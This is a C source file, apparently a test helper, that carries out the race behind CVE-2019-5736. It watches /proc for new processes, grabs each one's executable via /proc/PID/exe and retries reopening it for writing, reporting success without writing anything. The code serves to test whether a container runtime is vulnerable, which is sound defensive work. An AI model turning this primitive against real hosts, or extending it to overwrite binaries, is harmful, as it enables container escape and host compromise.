/* exehunt.c: the CVE-2019-5736 attacker, for the attack tests.  For
 * DURATION_MS it scans /proc for other processes, opens /proc/PID/exe of each
 * new one (O_PATH), keeps the fd and tries to reopen it for writing through
 * /proc/self/fd/N (without writing anything).
 *
 *   exehunt DURATION_MS
 *
 * It stops early once its stdin is readable (data or end of file).
 * Prints "exe PID TARGET" for every exe it could open, "WRITABLE PID TARGET"
 * if a reopen for writing succeeded, "ready" once the first scan is done
 * and "done N" at the end (N: how many exes it opened). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_SEEN 4096

static int seen[MAX_SEEN];
static int n_seen;

static long long
now_ms (void)
{
  struct timespec ts;
  clock_gettime (CLOCK_MONOTONIC, &ts);
  return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static int
was_seen (int pid)
{
  for (int i = 0; i < n_seen; i++)
    if (seen[i] == pid)
      return 1;
  return 0;
}

static void
try_pid (int pid, int *opened)
{
  char path[64], target[PATH_MAX], reopen[64];
  ssize_t n;
  int fd, wfd;

  snprintf (path, sizeof path, "/proc/%d/exe", pid);
  fd = open (path, O_PATH | O_CLOEXEC);
  if (fd < 0)
    return;
  n = readlink (path, target, sizeof target - 1);
  target[n < 0 ? 0 : n] = '\0';
  if (!was_seen (pid) && n_seen < MAX_SEEN)
    {
      seen[n_seen++] = pid;
      printf ("exe %d %s\n", pid, target);
      (*opened)++;
    }
  /* the attack: reopen the exe for writing once the process left it */
  snprintf (reopen, sizeof reopen, "/proc/self/fd/%d", fd);
  for (int i = 0; i < 50; i++)
    {
      wfd = open (reopen, O_WRONLY | O_CLOEXEC);
      if (wfd >= 0)
        {
          printf ("WRITABLE %d %s\n", pid, target);
          close (wfd);
          break;
        }
      if (errno != ETXTBSY)
        break;
    }
  close (fd);
}

int
main (int argc, char **argv)
{
  long long end;
  int self = getpid (), opened = 0, first = 1;

  if (argc != 2)
    {
      fprintf (stderr, "usage: exehunt DURATION_MS\n");
      return 2;
    }
  setvbuf (stdout, NULL, _IOLBF, 0);
  end = now_ms () + atoll (argv[1]);
  while (now_ms () < end)
    {
      DIR *d = opendir ("/proc");
      struct dirent *e;

      if (d == NULL)
        {
          perror ("opendir /proc");
          return 1;
        }
      while ((e = readdir (d)) != NULL)
        {
          int pid = atoi (e->d_name);
          if (pid > 0 && pid != self)
            try_pid (pid, &opened);
        }
      closedir (d);
      if (first)
        {
          printf ("ready\n");
          first = 0;
        }
      {
        struct pollfd in = { .fd = 0, .events = POLLIN };
        if (poll (&in, 1, 0) > 0)
          break;
      }
    }
  printf ("done %d\n", opened);
  return 0;
}
